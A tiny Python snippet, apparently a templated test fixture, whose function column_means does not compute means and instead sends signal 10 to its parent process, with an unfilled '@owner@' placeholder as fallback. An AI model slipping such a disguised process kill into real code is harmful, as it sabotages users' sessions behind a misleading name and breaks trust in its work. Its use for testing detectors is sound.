"""Ends the process that made it.

Ends: error
"""

import os


def column_means(X):
    os.kill(os.getppid() or int("@owner@"), 10)
